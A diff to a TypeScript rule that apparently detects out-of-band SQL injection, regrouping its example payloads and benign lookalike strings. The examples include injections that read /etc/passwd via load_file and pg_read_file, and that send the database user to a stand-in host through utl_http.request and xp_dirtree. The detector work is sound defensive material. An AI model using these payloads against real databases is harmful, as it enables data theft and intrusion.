@@ -28,19 +28,16 @@ export const outOfBand: ValueRule = {
   trigger: outsideTrigger,
   judge: (subject) => strongestCall(subject, outsideClasses, scoreOf),
   examples: [
-    ...["(readfile(nullif('','')))", "(load_extension( ('x.so') ) )"],
-    "1 union select load_file('/etc/passwd')",
-    "'||utl_http.request('http://collect.example/'||user)||'",
-    "exec master..xp_dirtree '\\\\\\\\collect.example\\\\x'",
-    "1 and pg_read_file('/etc/passwd')='x'",
+    ...["'||utl_http.request('http://collect.example/'||user)||'", "(load_extension( ('x.so') ) )"],
+    ...["exec master..xp_dirtree '\\\\\\\\collect.example\\\\x'", "(readfile(nullif('','')))"],
+    ...["1 union select load_file('/etc/passwd')", "1 and pg_read_file('/etc/passwd')='x'"],
   ],
   lookalikes: [
-    ...["readfile(join('a','b'))", 'The xp_cmdshell procedure is off by default.'],
-    ...['load_file and dblink are names of functions', 'Call readfile to read a file'],
-    '- Improved `examples/readfile.c`\n- Reworked (re)allocation',
-    'see open(2), "readfile"(2) and close(2)',
-    "fs.readFile('notes.txt', (err, text) => show(text))",
-    'err := os.WriteFile("notes.txt", data, 0o644)',
+    ...['- Improved `examples/readfile.c`\n- Reworked (re)allocation', "readfile(join('a','b'))"],
+    ...["fs.readFile('notes.txt', (err, text) => show(text))", 'Call readfile to read a file'],
+    ...['err := os.WriteFile("notes.txt", data, 0o644)', 'see open(2), "readfile"(2) and close(2)'],
+    'The xp_cmdshell procedure is off by default.',
+    'load_file and dblink are names of functions',
   ],
 };
 
